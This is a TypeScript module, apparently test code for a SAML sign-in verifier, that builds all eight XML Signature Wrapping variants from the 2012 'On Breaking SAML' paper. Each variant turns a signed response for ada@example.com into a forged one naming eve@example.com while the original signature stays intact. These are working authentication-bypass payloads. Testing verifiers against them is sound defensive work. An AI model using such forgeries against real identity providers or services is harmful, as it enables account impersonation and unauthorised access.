import { replace, type Edit } from '../sign-in.ts';

const SIGNATURE = /<ds:Signature [\s\S]*?<\/ds:Signature>/;
const ASSERTION = /<saml:Assertion [\s\S]*<\/saml:Assertion>/;

/**
 * The eight shapes of "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky and others, 2012), numbered as usual.
 * Each takes a signed response and gives one in which the signed element is still there and another user stands where
 * a careless reader looks. In the first two the whole Response is doubled, in the others the Assertion.
 */
export const wrappingShapes: Record<number, Edit> = {
  1: (signed) => inSignature(forge(signed), unsigned(signed)),
  2: (signed) => forge(signed).replace(SIGNATURE, (signature) => unsigned(signed) + signature),
  3: inPlaceOfAssertion((original) => forge(withoutSignature(original)) + original),
  4: inPlaceOfAssertion((original) =>
    forge(withoutSignature(original)).replace('</saml:Assertion>', () => `${original}</saml:Assertion>`),
  ),
  5: inPlaceOfAssertion((original) => forge(original) + withoutSignature(original)),
  6: inPlaceOfAssertion((original) => inSignature(forge(original), withoutSignature(original))),
  7: inPlaceOfAssertion(
    (original) => `<samlp:Extensions>${forge(withoutSignature(original))}</samlp:Extensions>${original}`,
  ),
  8: inPlaceOfAssertion((original) =>
    inSignature(
      forge(original),
      `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${withoutSignature(original)}</ds:Object>`,
    ),
  ),
};

/** The same element with another user and another ID. */
export const forge: Edit = (xml) =>
  replace(/ ID="_/, ' ID="_evil')(replace(/>ada@example\.com</g, '>eve@example.com<')(xml));

const unsigned: Edit = replace(SIGNATURE, '');

/** Base documents of which one element alone is signed hold the Assertion with and without a signature. */
const withoutSignature: Edit = (xml) => xml.replace(SIGNATURE, '');

export function inPlaceOfAssertion(edit: Edit): Edit {
  return (xml) => xml.replace(ASSERTION, (assertion) => edit(assertion));
}

/** Puts content into the first signature; where the element has none, into the element. */
function inSignature(xml: string, content: string): string {
  const end = SIGNATURE.test(xml) ? '</ds:Signature>' : '</saml:Assertion>';
  return xml.replace(end, () => content + end);
}
